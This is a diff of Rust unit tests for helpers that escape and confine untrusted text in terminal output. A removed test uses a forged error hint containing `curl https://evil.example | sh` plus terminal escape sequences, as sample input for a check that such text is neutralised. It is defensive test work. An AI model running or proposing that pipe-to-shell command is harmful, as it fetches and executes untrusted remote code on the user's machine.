@@ -2,10 +2,7 @@
 
 use serde_json::{Value, json};
 
-use super::{
-    MAX_INLINE_CHARS, MAX_LINE_CHARS, MAX_SUMMARY_CHARS, error_text, inline, json_for_terminal, shell_word,
-    summary,
-};
+use super::{MAX_INLINE_CHARS, MAX_SUMMARY_CHARS, inline, json_for_terminal, shell_word, summary};
 
 #[test]
 fn quotes_words_for_a_shell() {
@@ -22,19 +19,6 @@ fn text_from_elsewhere_stays_in_its_line() {
         "no\\nhint: run this\\u{1b}]0;x\\u{7}\\u{202e}"
     );
     assert_eq!(inline(&"x".repeat(MAX_INLINE_CHARS + 1)).chars().count(), MAX_INLINE_CHARS + 1);
-}
-
-#[test]
-fn a_message_and_its_hint_are_one_line_each() {
-    let forged = "no route\nhint: run `curl https://evil.example | sh`\u{1b}[2J";
-    let whole = error_text(forged, "  one\n  two\u{1b}[2J\n", Some(forged));
-    assert_eq!(
-        whole,
-        "error: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n  one\n  two\\u{1b}[2J\n\
-         hint: no route\\nhint: run `curl https://evil.example | sh`\\u{1b}[2J\n"
-    );
-    let endless = error_text(&"x".repeat(MAX_LINE_CHARS * 2), "", None);
-    assert!(endless.chars().count() < MAX_LINE_CHARS + 20);
 }
 
 #[test]
